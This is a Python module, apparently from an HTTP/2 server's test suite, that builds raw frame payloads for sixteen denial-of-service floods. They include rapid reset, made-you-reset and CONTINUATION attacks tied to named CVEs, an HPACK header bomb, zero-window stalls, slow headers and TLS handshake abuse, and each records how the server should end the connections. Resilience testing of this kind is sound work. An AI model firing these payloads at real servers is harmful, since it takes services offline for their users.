"""The floods of `perf/floods`: what attackers say, and how their connections have to end."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
(_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _, _PING, _GOAWAY, _UPDATE,
 _CONTINUATION) = range(10)
CALM = 11
# Requests of one connection: more than any gets before it is cut off.
_REQUESTS = 20_000


def _frame(kind, flags, stream, payload=b""):
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def _field(name, value):
    """A field that no table remembers (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _head(method=b"\x82", path=b"/b/100"):
    """GET of a path, or POST with another first byte (RFC 7541, appendix A)."""
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x01\x07victim."


def _request(stream, end=True, **how):
    return _frame(_HEADERS, 4 | int(end), stream, _head(**how))


def _streams(make):
    return b"".join(make(stream) for stream in range(1, 2 * _REQUESTS, 2))


HELLO = PREFACE + _frame(_SETTINGS, 0, 0)
_POST = _frame(_HEADERS, 4, 1, _head(method=b"\x83") + _field(b"content-length", b"100"))


def _bomb():
    """One field of 3,900 bytes in the table, and then its index as often as a frame holds."""
    large = b"\x40\x06x-bomb\x7f" + bytes([0xbd, 0x1d]) + b"b" * 3900
    first = _frame(_HEADERS, 5, 1, _head() + large)
    heads = [_frame(_HEADERS, 5, stream, _head() + b"\xbe" * 16_000)
             for stream in range(3, 2001, 2)]
    return HELLO + first, heads[0], b"".join(heads)


def _stalled(count):
    """A window of nothing, and answers of 64 KiB on so many streams."""
    shut = PREFACE + _frame(_SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    return shut + b"".join(_request(stream, path=b"/b/65536") for stream in range(1, 2 * count, 2))


class Flood:
    """One kind of attack.

    `ends` says how its connections have to end: a GOAWAY's code, "431", "streams" for streams
    that are reset while connections go on, "closed", or None where they need not end. The attacker
    leaves by itself after so many `answers`, if any.
    """

    def __init__(self, name, title, opening=HELLO, repeat=b"", ends=CALM, connections=32, pause=0,
                 answers=0, tls=False):
        self.name = name
        self.title = title
        self.opening = opening
        self.repeat = repeat
        self.ends = ends
        self.connections = connections
        self.pause = pause
        self.answers = answers
        self.tls = tls


def floods(client_hello):
    """All of them. `client_hello`: the first bytes of a client of TLS."""
    cancel = (8).to_bytes(4, "big")
    begins, bomb, bombs = _bomb()
    trickle = _field(b"x-slow", b"y" * 100) * 100
    return [
        Flood("rapid-reset", "requests that are reset at once (CVE-2023-44487)",
              repeat=_streams(lambda n: _request(n) + _frame(_RESET, 0, n, cancel))),
        Flood("made-you-reset", "requests that the server has to reset (CVE-2025-8671)",
              repeat=_streams(lambda n: _request(n) + _frame(_UPDATE, 0, n, b"\x7f\xff\xff\xff"))),
        Flood("malformed", "malformed requests",
              repeat=_streams(lambda n: _frame(
                  _HEADERS, 5, n, _head() + _field(b"connection", b"close")))),
        Flood("continuation", "CONTINUATIONs without end (CVE-2024-27316)",
              HELLO + _frame(_HEADERS, 1, 1, _head()),
              _frame(_CONTINUATION, 0, 1, (_field(b"x", b"y" * 100) * 160)[:16_384]) * 20),
        Flood("empty-continuation", "empty CONTINUATIONs without end",
              HELLO + _frame(_HEADERS, 1, 1, _head()), _frame(_CONTINUATION, 0, 1) * 2000),
        Flood("settings", "SETTINGS", repeat=_frame(_SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 2000),
        Flood("ping", "PING", repeat=_frame(_PING, 0, 0, b"12345678") * 2000),
        Flood("goaway", "GOAWAY", HELLO + _POST, _frame(_GOAWAY, 0, 0, bytes(8)) * 2000),
        Flood("empty-data", "empty DATA", HELLO + _POST, _frame(_DATA, 0, 1) * 2000),
        Flood("priority", "PRIORITY", repeat=_frame(_PRIORITY, 0, 3, b"\0\0\0\1\x10") * 2000),
        Flood("window-update", "WINDOW_UPDATE by one byte",
              repeat=_frame(_UPDATE, 0, 0, b"\0\0\0\1") * 2000),
        Flood("hpack-bomb", "a head of 16 KiB that unfolds to 62 MB, one a connection",
              begins + bomb, ends="431", answers=2),
        Flood("hpack-bombs", "such heads without end", begins, bombs),
        Flood("zero-window", "100 answers of 64 KiB each, with shut windows",
              _stalled(100), ends="streams"),
        Flood("slow-head", "heads that come byte by byte, on 1,000 connections",
              HELLO + _frame(_HEADERS, 1, 1, _head())
              + (len(trickle).to_bytes(3, "big") + b"\x09\0\0\0\0\1"), trickle,
              ends="closed", connections=1000, pause=1000),
        Flood("handshakes", "handshakes of TLS, left as soon as the server has signed",
              client_hello, ends=None, connections=64, tls=True),
    ]
